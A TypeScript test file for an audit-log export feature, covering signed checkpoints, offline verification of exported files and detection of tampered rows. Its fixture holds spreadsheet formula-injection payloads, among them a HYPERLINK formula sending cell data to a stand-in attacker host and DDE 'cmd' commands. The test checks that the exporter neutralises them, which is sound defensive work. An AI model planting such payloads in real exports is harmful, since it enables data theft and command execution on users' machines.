// An auditor's export, verified years later on another machine: the file (JSON, NDJSON or CSV) carries the
// signed checkpoints, and `npm run verify-export` checks it with no database against the published public
// key, naming the first row that does not match. CSV neutralises spreadsheet formulas in applicant-written
// text. A client that goes away mid-export ends the stream without an error in the service's log.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { desc } from 'drizzle-orm';
import pino from 'pino';
import request from 'supertest';
import { createApp } from '../../api/app';
import { canonicalHash, type AuditContent } from '../../db/audit';
import { readExport } from '../../platform/auditExport';
import { auditEvents } from '../../db/schema';
import { CaseStory } from '../support/steps';
import { apiHarness, expectProblem, type ApiHarness } from './support';

const run = promisify(execFile);
let h: ApiHarness;
let dir: string;
let keyFile: string;

/** Texts a spreadsheet would run as formulas, as an applicant could write them. */
const FORMULAS = {
  title: '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
  need: "+cmd|' /C calc'!A0",
  idea: '@SUM(1+1)*cmd|\' /C notepad\'!A1',
  expectedBenefits: "-2+3+cmd|' /C calc'!A0",
  apostrophe: "'=redan citerad",
};

beforeAll(async () => {
  h = await apiHarness();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'audit-export-'));
  const story = new CaseStory('PK-2026-0001', { title: FORMULAS.title });
  story.view.idea = { ...story.view.idea, need: FORMULAS.need, idea: FORMULAS.idea, expectedBenefits: FORMULAS.expectedBenefits };
  await h.record(story.started());
  // Each text also as a step's motivation: a column of its own in the CSV.
  const anna = { id: 'anna', name: 'Anna Berg', roles: ['applicant'], org: 'utbildning' };
  for (const text of Object.values(FORMULAS)) await h.record(story.step('request-change', { actor: anna, input: { reason: text }, motivation: text }));
  for (const step of new CaseStory('PK-2026-0002').toExecution()) await h.record(step);
  const key = await request(h.app).get('/api/v1/audit/public-key');
  expect(key.status).toBe(200);
  keyFile = path.join(dir, 'public-key.json');
  fs.writeFileSync(keyFile, JSON.stringify(key.body));
}, 60_000);
afterAll(async () => {
  fs.rmSync(dir, { recursive: true, force: true });
  await h?.close();
});

async function exportFile(format: 'json' | 'ndjson' | 'csv', query = ''): Promise<string> {
  const res = await request(h.app).get(`/api/v1/audit/events?format=${format}${query}`).set('Authorization', await h.auth('auditor'))
    .buffer(true).parse((r, cb) => { let t = ''; r.setEncoding('utf8'); r.on('data', (c: string) => { t += c; }); r.on('end', () => cb(null, t)); });
  expect(res.status).toBe(200);
  const file = path.join(dir, `export-${format}-${Math.random().toString(36).slice(2)}.${format}`);
  fs.writeFileSync(file, res.body as string);
  return file;
}

/** `npm run verify-export -- FILE --public-key KEY`, as an auditor runs it: exit code and what it printed. */
async function verify(file: string, withKey = true): Promise<{ code: number; out: string }> {
  const args = ['tsx', 'scripts/verifyExport.ts', file, ...(withKey ? ['--public-key', keyFile] : [])];
  try {
    const { stdout } = await run('npx', args, { cwd: path.join(__dirname, '../..') });
    return { code: 0, out: stdout };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, out: `${e.stdout}${e.stderr}` };
  }
}

describe('checkpoints', () => {
  test('an auditor signs the head on demand; anyone may read the public key; only auditors list and sign', async () => {
    const [head] = await h.database.db.select().from(auditEvents).orderBy(desc(auditEvents.seq)).limit(1);
    const signed = await h.post('/api/v1/audit/checkpoints', 'auditor');
    expect(signed.status).toBe(201);
    expect(signed.body).toMatchObject({ seq: head.seq, hash: head.hash, keyId: expect.stringMatching(/^[0-9a-f]{16}$/), signature: expect.any(String) });
    expect((await h.get('/api/v1/audit/checkpoints', 'auditor')).body.items).toEqual([signed.body]);
    expect((await request(h.app).get('/api/v1/audit/public-key')).body).toMatchObject({ keyId: signed.body.keyId, algorithm: 'Ed25519', publicKey: expect.stringContaining('BEGIN PUBLIC KEY') });
    expectProblem(await h.post('/api/v1/audit/checkpoints', 'officer'), 403, 'forbidden');
    expectProblem(await h.get('/api/v1/audit/checkpoints', 'admin'), 403, 'forbidden');
    expect((await h.get('/api/v1/audit/verify', 'auditor')).body).toMatchObject({ ok: true, checkpoints: 1 });
  });
});

describe('an export verified offline', () => {
  beforeAll(async () => { expect((await h.post('/api/v1/audit/checkpoints', 'auditor')).status).toBe(201); });

  test.each(['json', 'ndjson', 'csv'] as const)('%s: whole, it verifies with the published key', async (format) => {
    const file = await exportFile(format);
    const result = await verify(file);
    expect(result).toMatchObject({ code: 0, out: expect.stringMatching(/OK: \d+ rows, [1-9]\d* checkpoints verified with the given public key; the whole chain/) });
  });

  test('a row changed in the file is named', async () => {
    const file = await exportFile('json');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    const target = doc.items.find((e: { action: string }) => e.action === 'decide');
    target.input.grantedAmount = 28_000_000;
    fs.writeFileSync(file, JSON.stringify(doc));
    const result = await verify(file);
    expect(result.code).toBe(1);
    expect(result.out).toContain(`BROKEN at row ${target.seq}: its hash does not match its content`);
  });

  test('a CSV cell changed is named', async () => {
    const file = await exportFile('csv');
    const text = fs.readFileSync(file, 'utf8');
    expect(text).toContain('Tydlig nyttokalkyl');
    fs.writeFileSync(file, text.replace('Tydlig nyttokalkyl', 'Otydlig nyttokalkyl'));
    const result = await verify(file);
    expect(result.code).toBe(1);
    const rows = parse(text, { columns: true }) as { record: string; seq: string; input: string }[];
    const changed = rows.find((r) => r.record === 'event' && r.input.includes('Tydlig nyttokalkyl'))!;
    expect(result.out).toContain(`BROKEN at row ${changed.seq}`);
  });

  test('rows removed from the end, the summary made to agree, are caught by the last checkpoint', async () => {
    const file = await exportFile('ndjson');
    const lines = fs.readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    // The newest two rows of the chain (the file holds events in time order).
    const events = lines.filter((l) => !l.checkpoint && !l.export).sort((a, b) => a.seq - b.seq);
    const kept = events.slice(0, -2);
    const summary = lines.find((l) => l.export);
    summary.export.events = kept.length;
    fs.writeFileSync(file, [...kept, ...lines.filter((l) => l.checkpoint), summary].map((l) => JSON.stringify(l)).join('\n'));
    const result = await verify(file);
    expect(result.code).toBe(1);
    expect(result.out).toContain(`BROKEN at row ${events[events.length - 1].seq}: a signed checkpoint names this row, but the export ends before it`);
  });

  test('a checkpoint signed with another key, and a file cut short, are refused', async () => {
    const file = await exportFile('json');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    doc.checkpoints[0].signature = Buffer.from('x'.repeat(64)).toString('base64');
    fs.writeFileSync(file, JSON.stringify(doc));
    expect((await verify(file)).out).toContain('does not verify with the public key');
    // Without --public-key the key inside the export is used, and the output says so.
    const whole = await exportFile('json');
    expect((await verify(whole, false)).out).toContain('the public key inside the export (pass --public-key');
    const text = fs.readFileSync(whole, 'utf8');
    fs.writeFileSync(whole, text.slice(0, Math.floor(text.length / 2)));
    expect(await verify(whole)).toMatchObject({ code: 1, out: expect.stringContaining('no closing summary') });
  });

  test('a filtered export verifies each row and says what it could not check', async () => {
    const result = await verify(await exportFile('csv', '&caseId=PK-2026-0001'));
    expect(result).toMatchObject({ code: 0, out: expect.stringContaining('a filtered export (caseId=PK-2026-0001)') });
  });
});

test('CSV: applicant-written formulas are neutralised, and read back unchanged', async () => {
  const text = fs.readFileSync(await exportFile('csv', '&caseId=PK-2026-0001'), 'utf8');
  const cells = (parse(text, { relax_column_count: false }) as string[][]).flat();
  // No cell starts the way a spreadsheet takes for a formula.
  expect(cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  // Each prefixed with one apostrophe: shown as text, never run.
  expect(rows.filter((r) => r.action === 'request-change').map((r) => r.motivation)).toEqual(Object.values(FORMULAS).map((t) => `'${t}`));
  const started = rows.find((r) => r.action === 'case-started')!;
  expect(JSON.parse(started.input)).toMatchObject({ title: FORMULAS.title, need: FORMULAS.need, idea: FORMULAS.idea });
  // Read back, every text is what the applicant wrote.
  expect(readExport(text).events.filter((e) => e.action === 'request-change').map((e) => e.motivation)).toEqual(Object.values(FORMULAS));
});

test('a client that goes away mid-export ends the stream: nothing is logged as an error, and the service goes on', async () => {
  // Enough rows that the answer outgrows the socket's buffers.
  const [last] = await h.database.db.select({ hash: auditEvents.hash }).from(auditEvents).orderBy(desc(auditEvents.seq)).limit(1);
  let prevHash = last.hash;
  const rows = Array.from({ length: 3_000 }, (_, n) => {
    const content: AuditContent = {
      caseId: 'PK-2025-0001', caseSeq: n + 1, at: new Date(Date.UTC(2025, 0, 1) + n * 60_000).toISOString(),
      actor: { id: 'system', name: 'Systemet', roles: ['system'], org: null }, action: 'reminder',
      stageBefore: 'execution', stageAfter: 'execution', input: { padding: 'x'.repeat(500) }, outcome: { n }, motivation: null,
    };
    const hash = canonicalHash(content, prevHash);
    const row = { ...content, actorId: 'system', actorName: 'Systemet', actorRoles: ['system'], actorOrg: null, prevHash, hash };
    prevHash = hash;
    return row;
  });
  for (let i = 0; i < rows.length; i += 500) await h.database.db.insert(auditEvents).values(rows.slice(i, i + 500));

  const lines: { level: number; msg: string }[] = [];
  const sink = new Writable({ write(chunk, _, done) { lines.push(JSON.parse(String(chunk))); done(); } });
  const app = createApp({ ...h.deps, logger: pino({ level: 'debug' }, sink) });
  const server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const port = (server.address() as AddressInfo).port;
  try {
    const authorization = await h.auth('auditor');
    const received = await new Promise<number>((resolve, reject) => {
      const req = http.get({ port, host: '127.0.0.1', path: '/api/v1/audit/events?format=csv', headers: { authorization } }, (res) => {
        let bytes = 0;
        res.on('data', (chunk: Buffer) => {
          bytes += chunk.length;
          // Gone after the first part, long before the end.
          if (bytes > 64 * 1024) { req.destroy(); resolve(bytes); }
        });
        res.on('end', () => reject(new Error('the export ended before the client went away')));
      });
      req.on('error', () => undefined);
    });
    expect(received).toBeLessThan(3_000 * 500);
    // The server notices, stops reading the database, and answers the next request.
    await new Promise((resolve) => setTimeout(resolve, 500));
    const next = await request(server).get('/api/v1/audit/verify').set('Authorization', authorization);
    expect(next.body).toMatchObject({ ok: true });
    expect(lines.filter((l) => l.level >= 40)).toEqual([]);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});
